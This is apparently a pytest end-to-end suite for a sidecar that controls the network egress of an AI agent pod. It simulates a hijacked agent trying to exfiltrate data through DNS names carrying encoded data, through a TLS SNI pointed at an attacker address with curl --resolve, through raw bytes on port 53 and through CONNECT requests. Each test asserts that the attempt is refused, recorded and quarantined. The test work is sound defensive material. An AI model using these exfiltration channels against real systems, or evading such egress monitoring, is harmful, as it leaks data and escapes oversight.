"""No byte leaves the pod without a decision: DNS, SNI-bound passthrough, CONNECT, pinned hosts and the
records of what Envoy refuses - tried as the agent, in real network namespaces.

Runnable on its own (``pytest tests/e2e/test_egress_channels.py``; root, for namespaces and iptables).
A "pod" namespace (10.77.0.1) holds the agent (UID 1000: plain ``curl``, Python sockets and dnspython,
no proxy settings), and Envoy plus the sidecar (proxy UID 1337) behind ``agent-authz iptables`` as the
init step installs it - DNS redirected to the sidecar's DNS proxy. The agent's ``/etc/resolv.conf``
names the pod's resolver, 10.77.0.2:53 in an "upstream" namespace (a real DNS server, logging every
message); 10.77.0.3 is the attacker: an HTTPS server and a DNS server that log everything they get.
Each hostile attempt fails the asserted way, with the asserted record, and nothing reaches the
attacker; a name inside the task resolves, and its call works.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from sidecar.harness import AuthzStack, ManagedProcess, http_get, wait_until
from sidecar.identity.devca import DevCA
from sidecar.simulation.netns import AGENT_UID, ATTACKER_IP, POD_IP, PROXY_UID, UPSTREAM_IP, as_user, chown_tree
from tests.support.certs import make_leaf, write_pair
from tests.support.config import AGENT, base_config, task, write_config, write_keys
from tests.support.netns_pod import REPO, Pod, pod_sandbox, start_servers

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(os.geteuid() != 0, reason="namespace tests need root (network namespaces, iptables)"),
]

API = "api.example.com"
SECURE = "secure.example.com"
OUTSIDE = "c2VjcmV0LWRhdGE.exfil.example.net"  # a name carrying data: the classic DNS channel
EGRESS_PORT, DNS_PORT = 15080, 15053
TASK = task(
    "work",
    egress=[
        {"name": "api-read", "host": API, "methods": ["GET"], "paths": ["/v1/items/*"]},
        {"name": "secure-tls", "host": SECURE, "tls": "passthrough"},
    ],
)
ZONE = [
    f"{API}={UPSTREAM_IP}",
    f"{SECURE}={UPSTREAM_IP}",
    f"{OUTSIDE}={ATTACKER_IP}",
    f"evil.example.net={ATTACKER_IP}",
]

# The agent's DNS client: one query, over UDP or TCP, to any server; prints what came back (or did not).
DIG = r"""
import json, sys
import dns.edns, dns.exception, dns.message, dns.query, dns.rcode
name, qtype, server, transport = sys.argv[1:5]
query = dns.message.make_query(name, qtype, use_edns=0)
try:
    send = dns.query.tcp if transport == "tcp" else dns.query.udp
    reply = send(query, server, timeout=5, port=53)
except (dns.exception.DNSException, OSError) as exc:
    print(json.dumps({"error": type(exc).__name__}))
else:
    ede = [o.text for o in reply.options if isinstance(o, dns.edns.EDEOption)]
    answers = [r.to_text() for rrset in reply.answer for r in rrset]
    print(json.dumps({"rcode": dns.rcode.to_text(reply.rcode()), "answers": answers, "ede": ede}))
"""
# Raw bytes to a host and port: what comes back, or how it ended.
RAW = r"""
import json, socket, sys, time
proto, host, port, payload, wait = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], float(sys.argv[5])
with open(payload, "rb") as source:
    data = source.read()
started, reply, ended = time.monotonic(), b"", "open"
try:
    if proto == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(wait)
        s.sendto(data, (host, port))
        reply = s.recv(65535)
    else:
        s = socket.create_connection((host, port), timeout=wait)
        if data:
            s.sendall(data)
        while chunk := s.recv(65535):  # until the other side closes
            reply += chunk
        ended = "closed"
except TimeoutError:
    ended = "timeout"
except ConnectionResetError:
    ended = "reset"
except PermissionError:
    ended = "EPERM"
print(json.dumps({"reply": reply.hex(), "ended": ended, "seconds": round(time.monotonic() - started, 1)}))
"""


class ChannelPod(Pod):
    """The pod, with what the pod's resolver and the attacker received."""

    resolver_log: Path
    attacker_log: Path

    def agent_json(self, code: str, *args: str, timeout: float = 30) -> dict[str, Any]:
        return dict(json.loads(self.python(code, *args, timeout=timeout)))

    def dig(self, name: str, qtype: str = "A", server: str = UPSTREAM_IP, transport: str = "udp") -> dict[str, Any]:
        return self.agent_json(DIG, name, qtype, server, transport)

    def raw(self, proto: str, host: str, port: int, data: bytes, wait: float = 5) -> dict[str, Any]:
        payload = self.state.parent / "payload.bin"  # readable by the agent (the sandbox base is 0755)
        payload.write_bytes(data)
        payload.chmod(0o644)
        return self.agent_json(RAW, proto, host, str(port), str(payload), str(wait), timeout=wait + 30)

    @staticmethod
    def _lines(path: Path) -> list[dict[str, Any]]:
        return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []

    def resolver(self) -> list[dict[str, Any]]:
        return self._lines(self.resolver_log)

    def attacker(self) -> list[dict[str, Any]]:
        dns_seen = self._lines(self.attacker_log)
        https_seen = [e for e in self.upstream() if e.get("listener", "").endswith(f"{ATTACKER_IP}:443")]
        return dns_seen + https_seen

    def new_records(self, before: int, **match: Any) -> list[dict[str, Any]]:
        return [r for r in self.records()[before:] if all(r.get(k) == v for k, v in match.items())]

    def wait_record(self, before: int, **match: Any) -> dict[str, Any]:
        def first() -> dict[str, Any] | None:
            found = self.new_records(before, **match)
            return found[0] if found else None

        return wait_until(first, timeout=15, what=f"record {match}")


def _config(state: Path, public: Path) -> Path:
    write_keys(state)
    (state / "resolv.conf").write_text(f"nameserver {UPSTREAM_IP}\n")  # the resolv.conf the pod was given
    config = base_config(state, [TASK], {API: f"{UPSTREAM_IP}:80"})
    config["listen"]["admin"] = "127.0.0.1:9902"
    config["envoy"].update(
        egress_port=EGRESS_PORT, outbound_port=15001, upstream_ca=str(public / "ca.pem"), inspect_timeout="1s"
    )
    config["dns"] = {
        "listen": f"127.0.0.1:{DNS_PORT}",
        "resolv_conf": "resolv.conf",
        "allow": ["*.cluster.local"],
        "allowed_record_interval": 0,  # every allowed lookup recorded: the test reads them
    }
    return write_config(state, config)


@pytest.fixture(scope="module")
def pod() -> Iterator[ChannelPod]:
    for uid in (PROXY_UID, AGENT_UID):
        probe = subprocess.run([*as_user(uid), sys.executable, "-c", "import dns, sidecar"], capture_output=True)
        assert probe.returncode == 0, f"UID {uid} cannot run {sys.executable} from {REPO}: {probe.stderr[-500:]!r}"
    with pod_sandbox("aa-ch-", hosts={"agent.pod": POD_IP}) as sandbox:
        net = sandbox.net
        # the agent's commands run through `ip netns exec`, which mounts this over /etc/resolv.conf
        (net.hosts_file.parent / "resolv.conf").write_text(f"nameserver {UPSTREAM_IP}\n")
        state, public, logs = (sandbox.dir(name) for name in ("state", "public", "up"))
        ca = DevCA.create("upstream.test")
        ca.save(public / "upstream-ca")
        (public / "ca.pem").write_bytes((public / "upstream-ca" / "bundle.pem").read_bytes())
        cert, key = write_pair(logs, "upstream", *make_leaf(ca, [], dns=[SECURE]))
        upstream = net.exec_in(net.upstream, [])
        sandbox.keep(
            start_servers(
                "upstream",
                logs,
                upstream,
                *("--http", f"{UPSTREAM_IP}:80", "--https", f"{UPSTREAM_IP}:443", "--https", f"{ATTACKER_IP}:443"),
                *("--cert", str(cert), "--key", str(key)),
            )
        )
        for name, address, zone in (("resolver", UPSTREAM_IP, ZONE), ("attacker", ATTACKER_IP, ZONE)):
            ready = logs / f"{name}.ready"
            argv = [sys.executable, "-m", "tests.support.dns_server", "--listen", f"{address}:53"]
            argv += ["--log", str(logs / f"{name}.log"), "--ready", str(ready)]
            for entry in zone:
                argv += ["--zone", entry]
            server = sandbox.keep(ManagedProcess(f"dns-{name}", argv, log_dir=logs, cwd=REPO, prefix=upstream))
            server.start()
            wait_until(lambda ready=ready, server=server: server.check_alive() or ready.exists(), timeout=15, what=name)
        config = _config(state, public)
        with net.inside():
            subprocess.run([sys.executable, "-m", "sidecar", "iptables"], check=True, capture_output=True, timeout=30)
            chown_tree(state, PROXY_UID)
            stack = sandbox.keep(AuthzStack(config, state, run_as=as_user(PROXY_UID)))
            stack.start()
            assert stack.sidecar.addresses["dns"] == [f"127.0.0.1:{DNS_PORT}"]
            channel = ChannelPod(net, state, public, stack, logs / "upstream.log")
            channel.resolver_log, channel.attacker_log = logs / "resolver.log", logs / "attacker.log"
            yield channel


# -- a name inside the task ------------------------------------------------------------------------------
def test_a_name_inside_the_task_resolves_and_its_call_works(pod: ChannelPod) -> None:
    before = len(pod.records())
    assert pod.dig(API) == {"rcode": "NOERROR", "answers": [UPSTREAM_IP], "ede": []}
    reply = pod.curl(f"http://{API}/v1/items/1")  # curl resolves through the pod's resolv.conf: the proxy
    assert reply.status == 200, reply
    (received,) = pod.upstream(path="/v1/items/1")
    assert received["headers"]["authorization"].startswith("Bearer ")
    lookup = pod.wait_record(before, protocol="dns", host=API)
    assert (lookup["decision"], lookup["qtype"], lookup["rule"], lookup["task_id"]) == (
        "allow",
        "A",
        "api-read",
        "work",
    )
    assert any(e["name"] == API for e in pod.resolver())  # the pod's real resolver answered it
    assert pod.attacker() == []


def test_a_passthrough_name_resolves_and_binds_its_connection(pod: ChannelPod) -> None:
    ca = str(pod.public / "ca.pem")
    reply = pod.curl(f"https://{SECURE}/hello", "--cacert", ca)  # resolved by the proxy, then TLS to that address
    assert reply.status == 200, reply
    record = pod.record(protocol="tls", sni=SECURE, decision="allow")
    assert (record["rule"], record["destination"]) == ("secure-tls", f"{UPSTREAM_IP}:443")


# -- DNS ---------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_dns_to_an_arbitrary_server_reaches_only_the_sidecar(pod: ChannelPod, transport: str) -> None:
    """Port 53 at the attacker's address: answered by the DNS proxy from the pod's resolver (allowed name), or
    refused with a record (any other) - the attacker gets nothing either way."""
    before = len(pod.records())
    allowed = pod.dig(API, server=ATTACKER_IP, transport=transport)
    assert allowed["answers"] == [UPSTREAM_IP]
    refused = pod.dig("evil.example.net", "TXT", server=ATTACKER_IP, transport=transport)
    assert refused["rcode"] == "NXDOMAIN" and refused["answers"] == []
    record = pod.wait_record(before, protocol="dns", host="evil.example.net")
    assert (record["decision"], record["reason"], record["qtype"]) == ("deny", "dns_not_allowed", "TXT")
    assert refused["ede"] == [f"agent-authz dns_not_allowed {record['decision_id']}"]
    if transport == "tcp":
        assert record["destination"] == f"{ATTACKER_IP}:53"  # SO_ORIGINAL_DST of the redirected connection
    assert pod.attacker() == [] and not any(e["name"] == "evil.example.net" for e in pod.resolver())


def test_a_name_outside_the_task_through_the_pod_resolver_is_refused_and_never_forwarded(pod: ChannelPod) -> None:
    before = len(pod.records())
    for qtype in ("A", "AAAA", "TXT", "HTTPS"):
        reply = pod.dig(OUTSIDE, qtype)
        assert (reply["rcode"], reply["answers"]) == ("NXDOMAIN", []), reply
    records = [r for r in pod.new_records(before, protocol="dns") if r["host"] == OUTSIDE.lower()]
    assert sorted(r["qtype"] for r in records) == ["A", "AAAA", "HTTPS", "TXT"]
    assert all((r["decision"], r["reason"], r["agent"]) == ("deny", "dns_not_allowed", AGENT) for r in records)
    assert not any(e["name"] == OUTSIDE.lower() for e in pod.resolver()) and pod.attacker() == []
    status, metrics = http_get(pod.stack.sidecar.admin_url + "/metrics")
    refused = [
        line
        for line in metrics.decode().splitlines()
        if line.startswith('agent_authz_dns_queries_total{outcome="refused"}')
    ]
    assert status == 200 and refused and float(refused[0].split()[-1]) >= 4


def test_names_probed_outside_the_task_quarantine_it(pod: ChannelPod) -> None:
    """A hijacked agent that keeps looking up names carrying data trips the anomaly rule like one that
    keeps calling hosts outside its task: a second task with its own quarantine rule is frozen by
    three refused names, and its calls are denied ``task_quarantined``; the first task (no rule)
    keeps working. The query names no task, so the DNS records name none (the agent has two)."""
    config_path = pod.state / "sidecar.yaml"
    original = config_path.read_text()
    config = yaml.safe_load(original)
    probing = task("probing", egress=TASK["egress"][:1], quarantine={"threshold": 3, "window": "10m"})
    config["tasks"].append(probing)
    headers = ("-H", "x-agent-task: probing")
    try:
        config_path.write_text(yaml.safe_dump(config, sort_keys=False))
        wait_until(lambda: pod.curl(f"http://{API}/v1/items/1", *headers).status == 200, timeout=15, what="reload")
        before = len(pod.records())
        for i in range(3):
            reply = pod.dig(f"chunk{i}.{OUTSIDE}", "TXT")
            assert reply["rcode"] == "NXDOMAIN", reply
        frozen = pod.wait_record(before, reason="task_frozen")
        refused = [r for r in pod.new_records(before, protocol="dns") if r["reason"] == "dns_not_allowed"]
        assert [r.get("task_id") for r in refused] == [None] * 3
        assert (frozen["direction"], frozen["action"]["target"]) == ("control", "subtree:probing")
        assert frozen["action"]["evidence"] == [r["decision_id"] for r in refused]
        denied = pod.curl(f"http://{API}/v1/items/1", *headers)
        assert (denied.status, denied.headers.get("x-agent-authz-reason")) == (403, "task_quarantined"), denied
        assert pod.curl(f"http://{API}/v1/items/1").status == 200  # the task without a rule is not frozen
        assert pod.attacker() == []
    finally:
        config_path.write_text(original)
        wait_until(lambda: pod.curl(f"http://{API}/v1/items/1", *headers).status == 403, timeout=15, what="restore")


def _task_ids(pod: ChannelPod) -> set[str]:
    status, body = http_get(pod.stack.sidecar.admin_url + "/v1/tasks")
    assert status == 200, body
    return {t["id"] for t in json.loads(body)["tasks"]}


@contextlib.contextmanager
def _with_task(pod: ChannelPod, extra: dict[str, Any], *, first: bool = False) -> Iterator[None]:
    """``extra`` added to the pod's tasks until the block ends (each reload waited for)."""
    config_path = pod.state / "sidecar.yaml"
    original = config_path.read_text()
    config = yaml.safe_load(original)
    config["tasks"].insert(0 if first else len(config["tasks"]), extra)
    try:
        config_path.write_text(yaml.safe_dump(config, sort_keys=False))
        wait_until(lambda: extra["id"] in _task_ids(pod), timeout=15, what="reload")
        yield
    finally:
        config_path.write_text(original)
        wait_until(lambda: extra["id"] not in _task_ids(pod), timeout=15, what="restore")


def test_search_domain_lookups_of_an_allowed_name_never_freeze_a_benign_agent(pod: ChannelPod) -> None:
    """A resolv.conf as EKS or GKE writes it (a node search domain, ``ndots:5``) makes every lookup of
    ``api.example.com`` ask ``api.example.com.corp.example`` first: refused and recorded, never a strike -
    an agent doing only its task is not frozen."""
    resolv = pod.net.hosts_file.parent / "resolv.conf"  # what `ip netns exec` mounts over /etc/resolv.conf
    original = resolv.read_text()
    benign = task("benign", egress=TASK["egress"][:1], quarantine={"threshold": 2, "window": "10m"})
    headers = ("-H", "x-agent-task: benign")
    with _with_task(pod, benign):
        resolv.write_text(original + "search corp.example\noptions ndots:5\n")
        try:
            before = len(pod.records())
            statuses = [pod.curl(f"http://{API}/v1/items/{i}", *headers).status for i in range(4)]
            refused = [r for r in pod.new_records(before, protocol="dns") if r["reason"] == "dns_not_allowed"]
            assert refused and {r["host"] for r in refused} == {f"{API}.corp.example"}, refused
            assert statuses == [200] * 4 and not pod.new_records(before, reason="task_frozen")
        finally:
            resolv.write_text(original)


def test_an_allowed_sni_sent_to_other_addresses_quarantines_the_task(pod: ChannelPod) -> None:
    """Retrying an allowed SNI against addresses the name never resolved to is probing:
    ``destination_mismatch`` counts, and the task is frozen."""
    guarded = task("guarded", egress=TASK["egress"][1:], quarantine={"threshold": 2, "window": "10m"})
    ca = str(pod.public / "ca.pem")
    with _with_task(pod, guarded, first=True):
        assert pod.curl(f"https://{SECURE}/hello", "--cacert", ca).status == 200
        before = len(pod.records())
        for i in range(2):
            reply = pod.curl(f"https://{SECURE}/steal{i}", "--cacert", ca, "--resolve", f"{SECURE}:443:{ATTACKER_IP}")
            assert reply.status is None, reply
        mismatches = pod.new_records(before, reason="destination_mismatch")
        assert [r["task_id"] for r in mismatches] == ["guarded"] * 2
        frozen = pod.wait_record(before, reason="task_frozen")
        assert frozen["action"]["evidence"] == [r["decision_id"] for r in mismatches]
        status, body = http_get(pod.stack.sidecar.admin_url + "/v1/control/actions")
        blocked = {b["task_id"]: b["reason"] for b in json.loads(body)["blocked"]}
        assert status == 200 and blocked.get("guarded") == "task_quarantined", blocked
        assert pod.attacker() == []


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_non_dns_bytes_on_port_53_go_nowhere(pod: ChannelPod, transport: str) -> None:
    """Any payload on port 53 to any address ends at the DNS proxy: dropped (the TCP stream closed), recorded,
    and never at the attacker."""
    before = len(pod.records())
    payload = b"\x01\x02exfiltrated-bytes-that-are-not-dns" * 20
    framed = len(payload).to_bytes(2, "big") + payload if transport == "tcp" else payload
    result = pod.raw(transport, ATTACKER_IP, 53, framed, wait=3)
    reply = bytes.fromhex(result["reply"]).removeprefix(len(payload).to_bytes(2, "big")[:0])
    if transport == "tcp":
        assert result["ended"] == "closed", result  # the stream is closed by the proxy
        reply = reply[2:]
    assert reply[:2] == payload[:2] and reply[3] & 0x0F == 1, result  # the proxy's FORMERR, with the query's id
    record = pod.wait_record(before, protocol="dns", reason="bad_request")
    assert record["decision"] == "deny" and record["detail"].startswith("not a DNS message")
    assert pod.attacker() == []


def test_udp_elsewhere_still_never_leaves(pod: ChannelPod) -> None:
    """DNS is the only UDP redirected; the rest (QUIC...) is dropped as before."""
    assert pod.raw("udp", ATTACKER_IP, 443, b"\x00" * 32, wait=1)["ended"] == "EPERM"
    assert pod.attacker() == []


# -- passthrough bound to its name ----------------------------------------------------------------------------
def test_an_allowed_sni_towards_another_address_is_refused(pod: ChannelPod) -> None:
    before = len(pod.records())
    ca = str(pod.public / "ca.pem")
    reply = pod.curl(f"https://{SECURE}/stolen", "--cacert", ca, "--resolve", f"{SECURE}:443:{ATTACKER_IP}")
    assert reply.exit_code != 0 and reply.status is None, reply
    record = pod.wait_record(before, protocol="tls", sni=SECURE)
    assert (record["decision"], record["reason"], record["destination"]) == (
        "deny",
        "destination_mismatch",
        f"{ATTACKER_IP}:443",
    )
    assert pod.attacker() == []


# -- CONNECT -----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("authority", "reason"),
    [
        (f"{API}:443", "tls_not_allowed"),
        (f"{SECURE}:443", "tls_not_allowed"),
        ("evil.example.net:443", "host_not_allowed"),
    ],
)
def test_a_connect_to_a_host_without_an_intercept_rule_is_refused(pod: ChannelPod, authority: str, reason: str) -> None:
    request = f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode()
    result = pod.raw("tcp", "127.0.0.1", EGRESS_PORT, request)
    head = bytes.fromhex(result["reply"]).decode()
    assert head.startswith("HTTP/1.1 403"), head
    decision_id = next(
        line.split(": ")[1] for line in head.split("\r\n") if line.startswith("x-agent-authz-decision-id")
    )
    record = pod.record(decision_id=decision_id)
    host, _, port = authority.rpartition(":")
    assert (record["method"], record["host"], record["port"], record["reason"]) == ("CONNECT", host, int(port), reason)
    assert pod.attacker() == []


# -- pinned destinations, every spelling --------------------------------------------------------------------------
@pytest.mark.parametrize("host", [f"{API}.", f"{API.upper()}.", f"{API}.:80", "Api.Example.Com"])
def test_every_spelling_of_a_pinned_host_goes_to_its_pin(pod: ChannelPod, host: str) -> None:
    """Envoy resolves nothing here: a 200 means the pinned address, never DNS."""
    path = f"/v1/items/spelled-{abs(hash(host)) % 10000}"
    reply = pod.curl(f"http://{UPSTREAM_IP}{path}", "-H", f"Host: {host}")
    assert reply.status == 200, (host, reply)
    (received,) = pod.upstream(path=path)
    assert received["listener"] == f"http {UPSTREAM_IP}:80"
    record = pod.record(decision_id=reply.headers["x-agent-authz-decision-id"])
    assert (record["host"], record["decision"]) == (API, "allow")


# -- every refused connection leaves a record ---------------------------------------------------------------------
def test_a_first_line_longer_than_envoy_reads_is_refused_with_a_record(pod: ChannelPod) -> None:
    before = len(pod.records())
    line = b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: " + API.encode() + b"\r\n\r\n"
    result = pod.raw("tcp", UPSTREAM_IP, 80, line, wait=15)
    assert result["reply"] == "" and result["ended"] in ("closed", "reset") and result["seconds"] < 10, result
    record = pod.wait_record(before, protocol="tcp", destination=f"{UPSTREAM_IP}:80")
    assert (record["decision"], record["reason"]) == ("deny", "tcp_not_allowed")


def test_a_protocol_error_on_the_transparent_listener_is_recorded(pod: ChannelPod) -> None:
    before = len(pod.records())
    bad = b"GET /v1/items/1?token=QSECRET HTTP/1.1\r\nHost: " + API.encode() + b"\r\nno colon here\r\n\r\n"
    result = pod.raw("tcp", UPSTREAM_IP, 80, bad)
    assert bytes.fromhex(result["reply"]).startswith(b"HTTP/1.1 400"), result
    record = pod.wait_record(before, reason="refused_by_proxy", destination=f"{UPSTREAM_IP}:80", protocol="http")
    assert (record["decision"], record["status"], record["protocol"]) == ("deny", 400, "http")
    assert "codec" in record["detail"] and "QSECRET" not in json.dumps(record)


def test_a_connection_that_sends_nothing_is_closed_and_recorded(pod: ChannelPod) -> None:
    before = len(pod.records())
    result = pod.raw("tcp", UPSTREAM_IP, 25, b"", wait=10)  # a server-first protocol: SMTP
    assert result["reply"] == "" and result["ended"] in ("closed", "reset") and result["seconds"] < 8, result
    record = pod.wait_record(before, reason="refused_by_proxy", destination=f"{UPSTREAM_IP}:25")
    assert (record["decision"], record["status"], record["protocol"]) == ("deny", 0, "tcp")


def test_the_pods_own_processes_keep_their_loopback(pod: ChannelPod) -> None:
    """The proxy's own DNS and upstream traffic is not redirected (no loop): the sidecar asked the resolver."""
    assert any(e["listener"] == f"{UPSTREAM_IP}:53" for e in pod.resolver())
    assert f"-A AGENT_AUTHZ_DNS -m owner --uid-owner {PROXY_UID} -j RETURN" in pod.iptables_save()
